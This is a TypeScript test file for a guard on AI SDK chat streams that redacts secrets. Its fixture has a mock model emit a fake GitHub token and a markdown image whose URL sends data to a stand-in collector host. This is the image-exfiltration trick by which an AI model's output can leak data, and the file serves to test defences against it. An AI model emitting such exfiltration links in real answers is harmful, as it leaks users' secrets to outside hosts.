/**
 * The AI SDK's own server and client as oracles (issue 20 §4, in Node; the
 * browser e2e is not built yet): `streamText` with the SDK's mock model serves
 * a UI message stream (WIRE-FORMATS-2.md §1.3), the guard rewrites it, and the
 * SDK's `DefaultChatTransport` + `readUIMessageStream` read it. ai@6.0.326 is
 * the version the document read; ai@5.0.216 is the last with strict chunk
 * schemas (§1.5 rule 1), so a field added to any chunk fails its read.
 */
import {
  DefaultChatTransport,
  type UIMessage,
  readUIMessageStream,
  simulateReadableStream,
  streamText,
} from 'ai';
import { MockLanguageModelV3 } from 'ai/test';
import * as v5 from 'ai-v5-strict';
import { describe, expect, it } from 'vitest';
import { coreWithBlock } from '../../support/adapter-cases.ts';
import { getCorePack } from '../../../src/core/rules/builtin-packs.ts';
import type { CompiledPack } from '../../../src/core/rules/compile-pack.ts';
import { aiSdkUiStream } from '../../../src/core/wire/adapters/ai-sdk-ui-stream.ts';
import { createWireTransform } from '../../../src/core/wire/wire-transform.ts';

const TOKEN = 'ghp_' + 'EXAMPLEexample'.repeat(2) + '01234567';
/** The answer's deltas: the token split across three, then an exfiltration image split in two. */
const DELTAS = [
  `Here is the token you pasted: ${TOKEN.slice(0, 10)}`,
  TOKEN.slice(10, 25),
  `${TOKEN.slice(25)}. And a chart ![x](https://collector.example.net/p?d=`,
  'abc) done.',
];
const REASONING = [
  `The user pasted ${TOKEN.slice(0, 16)}`,
  `${TOKEN.slice(16)} and wants it back.`,
];
const EXPECTED_TEXT =
  'Here is the token you pasted: [redacted:github-pat]. And a chart [image blocked: collector.example.net] done.';
const EXPECTED_REASONING = 'The user pasted [redacted:github-pat] and wants it back.';

const pack = getCorePack();
/** The core pack with exfiltration images blocked: the token is redacted, the image ends the answer. */
const imageBlocks = coreWithBlock('markdown-image-exfil');

/** Model stream parts shared by the V2 (ai@5) and V3 (ai@6) specifications. */
function contentParts() {
  return [
    { type: 'reasoning-start' as const, id: 'r0' },
    ...REASONING.map((delta) => ({ type: 'reasoning-delta' as const, id: 'r0', delta })),
    { type: 'reasoning-end' as const, id: 'r0' },
    { type: 'text-start' as const, id: 'txt-0' },
    ...DELTAS.map((delta) => ({ type: 'text-delta' as const, id: 'txt-0', delta })),
    { type: 'text-end' as const, id: 'txt-0' },
  ];
}

function guarded(response: Response, guardPack: CompiledPack): Response {
  const body = (response.body as ReadableStream<Uint8Array>).pipeThrough(
    createWireTransform(aiSdkUiStream, guardPack),
  );
  return new Response(body, { status: response.status, headers: response.headers });
}

const userMessage = {
  id: 'm1',
  role: 'user' as const,
  parts: [{ type: 'text' as const, text: 'x' }],
};

/** What the page's useChat would hold at the end: the last message read, and any client error. */
async function readWith6(response: Response) {
  const transport = new DefaultChatTransport({
    api: 'https://app.example/api/chat',
    fetch: async () => response,
  });
  const stream = await transport.sendMessages({
    chatId: 'c1',
    messages: [userMessage],
    trigger: 'submit-message',
    messageId: undefined,
    abortSignal: undefined,
  });
  let last: UIMessage | undefined;
  const errors: unknown[] = [];
  for await (const message of readUIMessageStream({ stream, onError: (e) => errors.push(e) }))
    last = message;
  return { last, errors };
}

async function readWith5(response: Response) {
  const transport = new v5.DefaultChatTransport({
    api: 'https://app.example/api/chat',
    fetch: async () => response,
  });
  const stream = await transport.sendMessages({
    chatId: 'c1',
    messages: [userMessage],
    trigger: 'submit-message',
    messageId: undefined,
    abortSignal: undefined,
  });
  let last: v5.UIMessage | undefined;
  const errors: unknown[] = [];
  for await (const message of v5.readUIMessageStream({ stream, onError: (e) => errors.push(e) }))
    last = message;
  return { last, errors };
}

function server6(): Response {
  const model = new MockLanguageModelV3({
    doStream: async () => ({
      stream: simulateReadableStream({
        chunks: [
          ...contentParts(),
          {
            type: 'finish' as const,
            finishReason: { unified: 'stop' as const, raw: undefined },
            usage: {
              inputTokens: { total: 3, noCache: 3, cacheRead: undefined, cacheWrite: undefined },
              outputTokens: { total: 10, text: 10, reasoning: undefined },
            },
          },
        ],
      }),
    }),
  });
  return streamText({ model, prompt: 'x' }).toUIMessageStreamResponse({ sendReasoning: true });
}

function server5(): Response {
  // ai@5's `ai/test` needs msw; a LanguageModelV2 is this small object (the mock's own shape).
  const model = {
    specificationVersion: 'v2' as const,
    provider: 'mock',
    modelId: 'mock-v2',
    supportedUrls: {},
    doGenerate: () => Promise.reject(new Error('not used')),
    doStream: async () => ({
      stream: v5.simulateReadableStream({
        chunks: [
          ...contentParts(),
          {
            type: 'finish' as const,
            finishReason: 'stop' as const,
            usage: { inputTokens: 3, outputTokens: 10, totalTokens: 13 },
          },
        ],
      }),
    }),
  };
  return v5.streamText({ model, prompt: 'x' }).toUIMessageStreamResponse({ sendReasoning: true });
}

const textOf = (
  message: { parts: readonly { type: string; text?: string }[] } | undefined,
  type: string,
) =>
  (message?.parts ?? [])
    .filter((p) => p.type === type)
    .map((p) => p.text ?? '')
    .join('');

describe.each([
  ['ai@6.0.326', server6, readWith6],
  ['ai@5.0.216 (strict chunk schemas)', server5, readWith5],
] as const)('%s: the SDK server and client around the guard', (_name, server, read) => {
  it('the client renders the answer with the token redacted and the image neutralised, without error', async () => {
    const { last, errors } = await read(guarded(server(), pack));
    expect(errors).toEqual([]);
    expect(textOf(last, 'text')).toBe(EXPECTED_TEXT);
    expect(textOf(last, 'reasoning')).toBe(EXPECTED_REASONING);
  }, 30_000);

  it('a block ends the answer so the client finishes reading without error', async () => {
    const { last, errors } = await read(guarded(server(), imageBlocks));
    expect(errors).toEqual([]);
    expect(textOf(last, 'text')).toBe(
      'Here is the token you pasted: [redacted:github-pat]. And a chart ',
    );
    const text = last?.parts.find((p) => p.type === 'text') as { state?: string } | undefined;
    expect(text?.state).toBe('done');
  }, 30_000);

  it('unguarded, the same client reads the raw token (the oracle sees what the guard prevents)', async () => {
    const { last } = await read(server());
    expect(textOf(last, 'text')).toContain(TOKEN);
  }, 30_000);
});
